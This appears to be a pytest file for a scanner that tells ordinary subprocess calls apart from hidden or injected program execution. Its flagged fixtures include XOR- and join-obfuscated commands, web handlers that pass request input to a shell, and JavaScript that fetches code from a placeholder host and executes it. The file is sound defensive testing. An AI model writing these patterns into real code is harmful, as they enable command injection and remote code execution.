"""Programs that Python starts by a name that is not written out: its user's own, hidden ones, and sent ones."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import rules_of, verdict_of_text

ORDINARY = """
import subprocess
def run(cmd, **k):
    return subprocess.run(cmd, shell=True, check=True, **k)
run("git status")
---
import os, shutil, subprocess
def compiler(home):
    found = shutil.which("somecc") or os.path.join(home, "bin", "somecc")
    return subprocess.check_output([found, "-x", "c"]).decode().strip()
---
import subprocess
class Encoder:
    exe = None
    def __init__(self, exe): self.exe = exe
    def encode(self, path):
        command = [self.exe, "-i", path]
        if path.endswith("x"):
            command += ["-y"]
        return subprocess.Popen(command)
---
import subprocess
def version(program):
    return subprocess.check_output(["lmutil", "--version"]), subprocess.getoutput("lmutil -V")
---
import os, subprocess
def helper(name):
    subprocess.check_call([os.path.join(os.path.dirname(__file__), "bin", name)])
    subprocess.check_call(["bash", os.path.join(name, "fetch.sh")])
    subprocess.run(["bash", "scripts/train.sh"])
---
import os
def start(args):
    os.execvp(args.program[0], args.program)
    os.spawnv(os.P_NOWAIT, args.program[0], args.program)
---
import subprocess, sys
def test():
    subprocess.run([sys.executable, "-c", "import json; print(json)"])
---
import subprocess
CALLS = {"cpu": ["lscpu"], "gpu": ["nvidia-smi", "-L"]}
def tell(): return [subprocess.check_output(call) for name, call in CALLS.items()]
---
import os, subprocess
def edit(path): subprocess.call([os.environ.get("EDITOR", "vi"), path])
---
import webbrowser
def show(address): webbrowser.open(address)
"""
HOSTILE = """
import subprocess
def run(cmd): return subprocess.run(cmd, shell=True)
run("wall hello")
---
import os
command = "wall"
command += " hello"
os.system(command)
---
import json, subprocess
settings = json.load(open("config.json"))
subprocess.run(settings["after_download"], shell=True)
---
import subprocess, torch
def restore(path):
    state = torch.load(path)
    subprocess.Popen(state["hook"])
---
import subprocess
def restore(metadata): subprocess.Popen(metadata["hook"])
---
import subprocess
WORDS = ["xwall", "yhello"]
subprocess.run(" ".join(word[1:] for word in WORDS), shell=True)
---
import os
PARTS = {"b": "all", "a": "w"}
def f(): os.system("".join(sorted(PARTS, key=len)))
---
import os
def turned(text): return "".join(chr(ord(letter) ^ 7) for letter in text)
def f(): os.system(turned("pfkk"))
---
import os
from flask import request
def page(): return os.popen(request.args.get("q")).read()
---
import subprocess, gradio as gr
def answer(text): return subprocess.getoutput(text)
gr.Interface(answer, "text", "text").launch()
---
import subprocess
def act(model, tokenizer, ids): subprocess.run(tokenizer.decode(model(ids)), shell=True)
---
import os, subprocess
subprocess.run([os.path.join(os.path.dirname(__file__), "assets", "logo.png")])
---
import subprocess
subprocess.run(["bash", "/tmp/x.sh"])
---
import subprocess
def f(x): subprocess.run(f"cd {x} && ./run", shell=True)
---
import subprocess
def f(x): subprocess.run(["bash", "-c", x])
---
import asyncio, os
def f(x): os.spawnlp(os.P_WAIT, "wall", "wall", x)
---
from os import system as s
def f(x): s(x)
"""


@pytest.mark.parametrize("code", ORDINARY.split("---\n"))
@pytest.mark.parametrize("name", ["tools.py", "lib/__init__.py"])
def test_a_program_that_its_user_has_is_ordinary(code: str, name: str) -> None:
    if name == "tools.py" or "\nrun(" not in code:
        assert verdict_of_text(name, code) is Verdict.SAFE


@pytest.mark.parametrize("code", HOSTILE.split("---\n"))
def test_a_program_that_is_hidden_or_sent_is_not(code: str) -> None:
    assert verdict_of_text("tools.py", code).rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize("name", ["modeling_x.py", "handler.py"])
def test_code_that_a_model_is_loaded_with_starts_none(name: str) -> None:
    code = "import subprocess\ndef f(command): subprocess.run(command)\n"
    assert rules_of(name, code) == {"python.runs-program"}


@pytest.mark.parametrize("name", ["lib/__init__.py", "setup.py"])
def test_no_unknown_program_starts_while_a_library_is_loaded(name: str) -> None:
    code = "import subprocess, settings\nsubprocess.run(settings.program)\n"
    assert rules_of(name, code) == {"python.runs-program"}
    assert verdict_of_text("tools.py", code) is Verdict.SAFE


def test_a_path_that_another_process_hands_over_is_no_hidden_code() -> None:
    code = "import pickle, runpy\ndef main(pipe):\n    data = pickle.load(pipe)\n    {}\n"
    assert verdict_of_text("spawn.py", code.format("runpy.run_path(data['main'])")) is Verdict.SUSPICIOUS
    assert verdict_of_text("spawn.py", code.format("exec(data['main'])")) is Verdict.MALICIOUS


def test_what_is_fetched_for_an_ordinary_program_is_not_the_program() -> None:
    code = "import requests, subprocess\ndef f(exe):\n    a = requests.get(U).json()\n    subprocess.run([{}])\n"
    assert verdict_of_text("a.py", code.format("exe, a['x']")) is Verdict.SUSPICIOUS
    assert verdict_of_text("a.py", code.format("a['x'], exe")) is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("code", "verdict"),
    [
        ("fetch('http://x.invalid.net/a').then(e => use(e));\nclass A { execute(e) { e.go(); } }\n", Verdict.SAFE),
        ("fetch('http://x.invalid.net/a').then(n => use(n));\nt[n.id].execute(n);\n", Verdict.SAFE),
        ("let code = await fetch('http://x.invalid.net/a');\ncp.exec(code);\n", Verdict.SUSPICIOUS),
        ("let a = atob(x);\nexec(a);\n", Verdict.SUSPICIOUS),
    ],
)
def test_methods_and_letters_of_bundled_scripts_start_nothing(code: str, verdict: Verdict) -> None:
    found = verdict_of_text("a.js", code)
    assert found is verdict if verdict is Verdict.SAFE else found.rank >= verdict.rank
